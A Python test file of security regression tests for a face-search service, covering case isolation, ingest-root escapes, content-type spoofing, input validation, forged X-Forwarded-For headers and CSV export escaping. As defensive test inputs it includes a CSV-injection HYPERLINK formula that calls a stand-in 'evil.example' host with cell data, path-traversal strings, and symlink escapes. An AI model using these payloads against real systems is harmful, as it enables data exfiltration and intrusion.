"""Issue 13, the holes in the rules: each test here failed on the code before its fix.

- the subject report is a governed search (reference, kill switch, limits, audit entry with its results);
- examiners do not read each other's cases, searches or candidates, and a refused search joins no case;
- ingest roots cannot be escaped by a manifest or a symlink, and say nothing about what exists outside;
- image files are served with the type of their decoded format, never their name's;
- thresholds, model names and empty probes are validated by the use case, answered 422 and logged;
- a FIFO (any non-regular file) is refused with NOT_A_FILE instead of hanging an ingest;
- ids beyond 64 bits are a 422, not a 500;
- X-Forwarded-For is trusted only from configured proxies;
- formula prefixes in the search export's CSV cells are neutralised.

Plumbing: the synthetic test pack and generated photos (no ../shared needed)."""

from __future__ import annotations

import csv
import io
import os
import re
import threading
from contextlib import AbstractContextManager
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from PIL import Image
from support.browser import served
from support.service import PEOPLE, SETUP_ADMIN, SETUP_OPERATOR, Env, gallery_manifest, make_env, synthetic_packs
from support.service import wait_job as _wait_job
from support.synthetic import write_photo
from typer.testing import CliRunner

from facesearch.app import searching, subjects
from facesearch.app.context import Actor
from facesearch.app.errors import CaseRequired, Invalid, LimitExceeded, Suspended
from facesearch.app.ingest import ingest, items_from_folder, items_from_manifest
from facesearch.app.suspension import set_suspended
from facesearch.cli import app as cli_app
from facesearch.config import Settings
from facesearch.errors import ImageError
from facesearch.pipeline import imaging
from facesearch.services.uploads import Photo
from facesearch.store import audit
from facesearch.store.schema import Image as Image_

OPERATOR = Actor("operator", "operator")
EXAMINER = Actor("examiner", "examiner")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory):
    root = Path(tmp_path_factory.mktemp("hardening"))
    with synthetic_packs():
        env = make_env(root / "home", search_rate_per_minute=0, search_daily_quota=0)
        env.add_user("examiner2", "examiner")
        res = ingest(
            env.ctx,
            SETUP_OPERATOR,
            items_from_manifest(gallery_manifest(env, root / "g.csv", PEOPLE, 3)),
            "lfw",
            workers=1,
        )
        assert res.ingested == len(PEOPLE) * 3
        with TestClient(env.app, base_url="https://testserver", raise_server_exceptions=False) as client:
            yield env, client


def _last(env: Env, action: str) -> dict:
    return audit.query(env.store, action=action, limit=1)[0][0]


def _files(path: Path, field: str = "probe") -> dict:
    return {field: (path.name, path.read_bytes(), "image/jpeg")}


def _search(env: Env, client: TestClient, who: str, case: str, purpose: str = "test", **extra: object):
    return client.post(
        "/api/v1/search",
        files=_files(env.held_out(PEOPLE[0])),
        data={"case_ref": case, "purpose": purpose, "top_k": 3, **extra},
        headers=env.headers(who),
    )


# 1. The subject report is a governed search ------------------------------------------------------------
def test_subject_report_needs_a_reference_and_is_logged_with_what_it_returned(world) -> None:
    env, client = world
    photo = env.held_out(PEOPLE[1])
    # The use case: no reference is refused like a missing case reference, and the refusal is logged.
    with pytest.raises(CaseRequired, match="reference"):
        subjects.subject_report(env.ctx, OPERATOR, Photo.from_path(photo), None)
    e = _last(env, "subject_report")
    assert e["outcome"] == "refused" and e["probe_sha256"] and "reference" in e["details"]["reason"]
    # The API: the form field `reference`; missing -> the same refusal (422), logged.
    r = client.post("/api/v1/subject-report", files=_files(photo, "photo"), headers=env.headers("operator"))
    assert r.status_code == 422 and r.json()["title"] == "Case reference and purpose required", r.text
    assert _last(env, "subject_report")["outcome"] == "refused"
    r = client.post(
        "/api/v1/subject-report",
        files=_files(photo, "photo"),
        data={"reference": "DSR-7"},
        headers=env.headers("operator"),
    )
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["reference"] == "DSR-7" and body["matches"]
    e = _last(env, "subject_report")
    assert (e["outcome"], e["actor"], e["case_ref"], e["purpose"]) == ("ok", "operator", "DSR-7", subjects.PURPOSE)
    assert e["results"]["face_ids"] == [m["face_id"] for m in body["matches"]]
    assert e["results"]["image_ids"] == sorted({m["image_id"] for m in body["matches"]})
    # The web page's form has the field too.
    page = client.get("/privacy", headers=env.headers("operator"))
    assert 'name="reference"' in page.text and 'action="/privacy/subject"' in page.text


def test_subject_report_stops_when_searching_is_suspended(world) -> None:
    env, client = world
    set_suspended(env.ctx, SETUP_ADMIN, True, "drill 13")
    try:
        with pytest.raises(Suspended):
            subjects.subject_report(env.ctx, OPERATOR, Photo.from_path(env.held_out(PEOPLE[1])), "DSR-8")
        r = client.post(
            "/api/v1/subject-report",
            files=_files(env.held_out(PEOPLE[1]), "photo"),
            data={"reference": "DSR-8"},
            headers=env.headers("operator"),
        )
        assert r.status_code == 503, r.text
    finally:
        set_suspended(env.ctx, SETUP_ADMIN, False)
    e = _last(env, "subject_report")
    assert e["outcome"] == "refused" and e["case_ref"] == "DSR-8" and "suspended" in e["details"]["reason"]


def test_subject_report_counts_toward_and_obeys_the_search_limits(world) -> None:
    env, _ = world
    env.add_user("operator9", "operator")
    env.add_user("examiner9", "examiner")
    op, ex = Actor("operator9", "operator"), Actor("examiner9", "examiner")
    photo = Photo.from_path(env.held_out(PEOPLE[1]))
    env.settings.search_daily_quota = 1
    try:
        subjects.subject_report(env.ctx, op, photo, "DSR-9")  # within the quota
        with pytest.raises(LimitExceeded):
            subjects.subject_report(env.ctx, op, photo, "DSR-10")
        assert _last(env, "subject_report")["outcome"] == "refused"
        # A search by the same user would count too; and the subject report counts in a search's limit.
        searching.search(env.ctx, ex, photo, searching.SearchRequest("CASE-L", "test"))
        with pytest.raises(LimitExceeded):
            searching.search(env.ctx, ex, photo, searching.SearchRequest("CASE-L", "test"))
    finally:
        env.settings.search_daily_quota = 0


def test_cli_subject_report_takes_a_reference(world, monkeypatch: pytest.MonkeyPatch) -> None:
    env, _ = world
    monkeypatch.setenv("FACESEARCH_HOME", str(env.settings.home))
    monkeypatch.setenv("FACESEARCH_TEST_PACKS", "1")
    monkeypatch.setenv("FACESEARCH_MODEL", "synthetic")
    photo = str(env.held_out(PEOPLE[1]))
    r = CliRunner().invoke(cli_app, ["--as", "operator", "subject", "report", photo, "--json"])
    assert r.exit_code == 4 and "reference" in r.output, r.output
    r = CliRunner().invoke(
        cli_app, ["--as", "operator", "subject", "report", photo, "--reference", "DSR-CLI", "--json"]
    )
    assert r.exit_code == 0, r.output
    assert _last(env, "subject_report")["case_ref"] == "DSR-CLI"


# 2. Examiners do not read each other's cases -----------------------------------------------------------
def test_a_refused_search_joins_no_case_and_searches_are_not_found_by_others(world) -> None:
    env, client = world
    r = _search(env, client, "examiner", "CASE-OWN")
    assert r.status_code == 200
    sid = r.json()["search_id"]
    face = r.json()["faces"][0]["matches"][0]["face_id"]
    # examiner2 is refused under examiner's case reference (a purpose not on the list)...
    assert _search(env, client, "examiner2", "CASE-OWN", purpose="FISHING").status_code == 422
    # ... and does not become a participant of that case.
    assert client.get("/api/v1/cases/CASE-OWN/report", headers=env.headers("examiner2")).status_code == 403
    assert client.get("/api/v1/cases/CASE-OWN/report", headers=env.headers("examiner")).status_code == 200
    # Another examiner's search, its export and its candidates do not exist for examiner2 (404, not 403).
    ex2 = env.headers("examiner2")
    assert client.get(f"/api/v1/searches/{sid}", headers=ex2).status_code == 404
    assert client.get(f"/api/v1/searches/{sid}/export?format=csv", headers=ex2).status_code == 404
    r = client.post(f"/api/v1/searches/{sid}/proposals", json={"face_id": face, "note": "mine now"}, headers=ex2)
    assert r.status_code == 404
    assert client.get(f"/api/v1/searches/{sid + 10_000}", headers=ex2).json()["detail"] == client.get(
        f"/api/v1/searches/{sid}", headers=ex2
    ).json()["detail"].replace(str(sid), str(sid + 10_000))
    assert all(p["search_id"] != sid for p in client.get("/api/v1/proposals", headers=ex2).json()["proposals"])
    # The examiner who ran it and auditors read it.
    assert client.get(f"/api/v1/searches/{sid}", headers=env.headers("examiner")).status_code == 200
    assert client.get(f"/api/v1/searches/{sid}", headers=env.headers("auditor")).status_code == 200
    assert client.get(f"/api/v1/searches/{sid}/export", headers=env.headers("auditor")).status_code == 200
    # Once a proposal is open the search is under review: every examiner is a possible reviewer.
    r = client.post(
        f"/api/v1/searches/{sid}/proposals",
        json={"face_id": face, "note": "same marker"},
        headers=env.headers("examiner"),
    )
    assert r.status_code == 201, r.text
    view = client.get(f"/api/v1/searches/{sid}", headers=ex2)
    assert view.status_code == 200 and view.json()["candidates"][0]["status"] == "proposed"
    assert any(p["search_id"] == sid for p in client.get("/api/v1/proposals", headers=ex2).json()["proposals"])


# 3. Ingest roots cannot be escaped ---------------------------------------------------------------------
def test_ingest_roots_hold_for_manifest_entries_and_symlinks(tmp_path: Path) -> None:
    allowed = tmp_path / "allowed"
    outside = tmp_path / "outside"
    secret = write_photo(outside / "secret.jpg", [3], seed=5)
    inside = write_photo(allowed / "in" / "ok.jpg", [2], seed=6)
    (allowed / "in" / "link.jpg").symlink_to(secret)
    manifest = allowed / "m.csv"
    manifest.write_text(
        f"path,source_url\n{secret},https://x\n{outside / 'missing.jpg'},https://x\n"
        f"{inside},https://x\nin/link.jpg,https://x\n../outside/secret.jpg,https://x\n"
    )
    with synthetic_packs():
        env = make_env(tmp_path / "home", photos=False, ingest_roots=[allowed])
        with TestClient(env.app, base_url="https://testserver") as client:
            h = env.headers("operator")
            for source in ({"manifest": str(manifest)}, {"path": str(allowed / "in")}):
                r = client.post("/api/v1/ingest", data={"collection": "lfw", **source}, headers=h)
                assert r.status_code == 202, r.text
                job = _wait_job(client, r.json()["id"], h)
                assert job["status"] == "done", job
                outside_failures = [f for f in job["failures"] if f["reason"] == "OUTSIDE_ROOTS"]
                # Existing or not, a path outside reads the same: nothing tells whether a file is there.
                assert outside_failures and all(f["detail"] == "outside the allowed roots" for f in outside_failures)
                assert {f["reason"] for f in job["failures"]} == {"OUTSIDE_ROOTS"}
                assert job["counts"]["failed"] == len(job["failures"])
                assert job["processed"] == job["total"]
            assert len(outside_failures) == 1  # the folder: its symlink
            # Only the file inside was ingested, once; the durable record lists the refusals too.
            with env.store.session() as session:
                paths = {img.path for img in session.query(Image_)}
            assert paths == {str(inside.resolve())}
            with env.store.database.connect() as conn:
                reasons = [r for (r,) in conn.exec_driver_sql("SELECT reason FROM ingest_failures")]
            assert reasons.count("OUTSIDE_ROOTS") == 5


# 7. Image files carry the type of their decoded format -------------------------------------------------
def test_image_files_are_served_with_their_decoded_type(tmp_path: Path) -> None:
    jpg = write_photo(tmp_path / "p.jpg", [4], seed=7)
    ppm = io.BytesIO()
    Image.open(jpg).save(ppm, "PPM")
    with synthetic_packs():
        env = make_env(tmp_path / "home", photos=False)
        with TestClient(env.app, base_url="https://testserver") as client:
            h = env.headers("operator")
            files = [
                ("files", ("evil.html", jpg.read_bytes(), "text/html")),
                ("files", ("evil.svg", ppm.getvalue(), "image/svg+xml")),
            ]
            r = client.post("/api/v1/ingest", data={"collection": "lfw"}, files=files, headers=h)
            assert r.status_code == 202, r.text
            assert _wait_job(client, r.json()["id"], h)["counts"]["ingested"] == 2
            served = {}
            for image_id in (1, 2):
                f = client.get(f"/api/v1/images/{image_id}/file", headers=h)
                assert f.status_code == 200
                served[f.content[:2]] = f.headers
    html, svg = served[b"\xff\xd8"], served[b"P6"]
    assert html["content-type"] == "image/jpeg" and html["x-content-type-options"] == "nosniff"
    assert re.fullmatch(r'inline; filename="image-\d+\.jpg"', html["content-disposition"])
    assert svg["content-type"] == "application/octet-stream" and svg["x-content-type-options"] == "nosniff"
    assert re.fullmatch(r'attachment; filename="image-\d+\.bin"', svg["content-disposition"])


def test_sniffed_media_types() -> None:
    assert imaging.sniff_media_type(b"\x89PNG\r\n\x1a\n....") == ("image/png", "png")
    assert imaging.sniff_media_type(b"GIF89a") == ("image/gif", "gif")
    assert imaging.sniff_media_type(b"<svg xmlns=") == ("application/octet-stream", "bin")
    assert imaging.sniff_media_type(b"<html><script>") == ("application/octet-stream", "bin")


# 11. Thresholds, model names and empty probes ----------------------------------------------------------
@pytest.mark.parametrize("threshold", ["nan", "inf", "-inf", "1.5", "-2"])
def test_bad_thresholds_are_422_and_logged(world, threshold: str) -> None:
    env, client = world
    before = audit.query(env.store, limit=1)[0][0]["seq"]
    r = _search(env, client, "examiner", "CASE-T", threshold=threshold)
    assert r.status_code == 422 and "threshold" in r.json()["detail"], r.text
    e = _last(env, "search")
    assert e["seq"] > before and e["outcome"] == "refused" and "threshold" in e["details"]["reason"]
    photo = env.held_out(PEOPLE[0]).read_bytes()
    r = client.post(
        "/api/v1/verify",
        files={"a": ("a.jpg", photo, "image/jpeg"), "b": ("b.jpg", photo, "image/jpeg")},
        data={"case_ref": "CASE-T", "purpose": "compare", "threshold": threshold},
        headers=env.headers("examiner"),
    )
    assert r.status_code == 422, r.text
    assert _last(env, "verify")["outcome"] == "refused"


def test_verify_refuses_an_unknown_model_before_reading_any_file(world, tmp_path: Path) -> None:
    env, client = world
    missing = Photo.from_path(tmp_path / "never-there.jpg")  # reading it would be an UNREADABLE_FILE error
    with pytest.raises(Invalid, match="unknown model pack"):
        searching.verify(env.ctx, EXAMINER, missing, missing, case_ref="CASE-M", purpose="compare", model="../../x")
    e = _last(env, "verify")
    assert e["outcome"] == "refused" and e["model"] == "../../x" and e["probe_sha256"] is None
    photo = env.held_out(PEOPLE[0]).read_bytes()
    r = client.post(
        "/api/v1/verify",
        files={"a": ("a.jpg", photo, "image/jpeg"), "b": ("b.jpg", photo, "image/jpeg")},
        data={"case_ref": "CASE-M", "purpose": "compare", "model": "../../calibration/x"},
        headers=env.headers("examiner"),
    )
    assert r.status_code == 422 and "unknown model pack" in r.json()["detail"], r.text


def test_an_empty_probe_is_refused_by_the_use_case_and_logged(world) -> None:
    env, client = world
    r = client.post(
        "/api/v1/search",
        files={"probe": ("e.jpg", b"", "image/jpeg")},
        data={"case_ref": "CASE-EMPTY", "purpose": "test"},
        headers=env.headers("examiner"),
    )
    assert r.status_code == 422 and r.json()["reason"] == "EMPTY_FILE", r.text
    e = audit.query(env.store, case_ref="CASE-EMPTY", limit=1)[0][0]
    assert e["action"] == "search" and e["outcome"] == "refused" and "EMPTY_FILE" in e["details"]["reason"]


# 14. FIFOs and other non-regular files -----------------------------------------------------------------
def _bounded(fn, seconds: float = 20.0):
    """Run fn in a thread; fail (instead of hanging the test run) when it does not return in time."""
    out: dict = {}

    def target() -> None:
        try:
            out["value"] = fn()
        except BaseException as exc:  # noqa: BLE001 - handed to the test
            out["error"] = exc

    t = threading.Thread(target=target, daemon=True)
    t.start()
    t.join(seconds)
    assert not t.is_alive(), "blocked on a non-regular file"
    if "error" in out:
        raise out["error"]
    return out["value"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_is_refused_not_waited_on(tmp_path: Path, synthetic_env: Path) -> None:
    fifo = tmp_path / "folder" / "pipe.jpg"
    fifo.parent.mkdir()
    os.mkfifo(fifo)
    with pytest.raises(ImageError) as err:
        _bounded(lambda: imaging.read_file(fifo, 1 << 20))
    assert err.value.reason == imaging.NOT_A_FILE
    with pytest.raises(ImageError, match="NOT_A_FILE"):
        _bounded(lambda: imaging.read_file(tmp_path / "folder", 1 << 20))
    # An ingest of the folder finishes and reports it.
    write_photo(fifo.parent / "ok.jpg", [1], seed=3)
    with synthetic_packs():
        env = make_env(tmp_path / "home", photos=False)
        res = _bounded(lambda: ingest(env.ctx, SETUP_OPERATOR, items_from_folder(fifo.parent), "lfw", workers=1))
    assert res.ingested == 1 and res.failures == [(str(fifo), imaging.NOT_A_FILE, "not a regular file")]


# 17. Ids beyond 64 bits --------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "method,path",
    [
        ("GET", "/api/v1/images/{}"),
        ("GET", "/api/v1/images/{}/file"),
        ("DELETE", "/api/v1/images/{}"),
        ("GET", "/api/v1/faces/{}/thumbnail"),
        ("GET", "/api/v1/searches/{}"),
        ("GET", "/api/v1/searches/{}/export"),
        ("POST", "/api/v1/searches/{}/proposals"),
        ("POST", "/api/v1/proposals/{}/confirm"),
        ("POST", "/api/v1/proposals/{}/reject"),
        ("DELETE", "/api/v1/tokens/{}"),
    ],
)
def test_huge_ids_are_422(world, method: str, path: str) -> None:
    env, client = world
    role = {"/api/v1/images/{}": "operator", "/api/v1/tokens/{}": "admin"}.get(path, "examiner")
    if method == "DELETE" and "images" in path:
        role = "operator"
    body = {"face_id": 1, "note": "n"} if method == "POST" else None
    for bad in ("99999999999999999999999", str(2**63), "0", "-1"):
        r = client.request(method, path.format(bad), json=body, headers=env.headers(role))
        assert r.status_code == 422, (method, path, bad, r.status_code, r.text)


# 4. X-Forwarded-For only from configured proxies -------------------------------------------------------
def test_serve_trusts_forwarded_headers_only_from_configured_proxies() -> None:
    from facesearch.cli.accounts import uvicorn_options

    assert uvicorn_options(Settings(trusted_proxies=[]))["proxy_headers"] is False
    opts = uvicorn_options(Settings(trusted_proxies=["10.0.0.5", "10.0.0.6"]))
    assert opts["proxy_headers"] is True and opts["forwarded_allow_ips"] == "10.0.0.5,10.0.0.6"


def _serve(env: Env, trusted: list[str]) -> AbstractContextManager[str]:
    from facesearch.cli.accounts import uvicorn_options

    return served(env.app, **uvicorn_options(env.settings.model_copy(update={"trusted_proxies": trusted})))


def _wrong_login(base: str, name: str, forwarded: str) -> int:
    import httpx

    with httpx.Client(base_url=base) as c:
        page = c.get("/login")
        token = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
        assert token, page.text
        cookie = page.cookies.get("fs_login_csrf") or re.search(
            r"fs_login_csrf=([^;]+)", page.headers["set-cookie"]
        ).group(1)
        r = c.post(
            "/login",
            data={"name": name, "password": "wrong", "csrf_token": token.group(1)},
            headers={"X-Forwarded-For": forwarded, "Cookie": f"fs_login_csrf={cookie}"},
        )
        return r.status_code


def test_forged_x_forwarded_for_changes_neither_the_logged_ip_nor_the_lockout(tmp_path: Path) -> None:
    with synthetic_packs():
        env = make_env(tmp_path / "home", photos=False)
        with _serve(env, []) as base:
            for n in range(5):  # five wrong passwords, each "from" another address
                assert _wrong_login(base, "examiner", f"203.0.113.{n}") == 401
            entries = audit.query(env.store, action="login_failed", limit=10)[0]
            assert {e["ip"] for e in entries} == {"127.0.0.1"}
            # The lockout is keyed on the real address: a new forged one does not escape it.
            assert _wrong_login(base, "examiner", "198.51.100.77") == 429
        # A configured proxy is trusted (here the test client's own loopback address plays the proxy).
        with _serve(env, ["127.0.0.1"]) as base:
            assert _wrong_login(base, "operator", "192.0.2.44") == 401
            assert _last(env, "login_failed")["ip"] == "192.0.2.44"


# 19. Formula prefixes in the search export -------------------------------------------------------------
def test_search_export_csv_neutralises_formulas(world) -> None:
    env, client = world
    case = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    r = _search(env, client, "examiner", case)
    assert r.status_code == 200, r.text
    sid = r.json()["search_id"]
    text = client.get(f"/api/v1/searches/{sid}/export?format=csv", headers=env.headers("examiner")).text
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][1] == "'" + case
    for bad in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        from facesearch.api.routes_governance import safe_cell

        assert safe_cell(bad) == "'" + bad
    assert safe_cell(-0.5) == -0.5 and safe_cell("CASE-1") == "CASE-1"
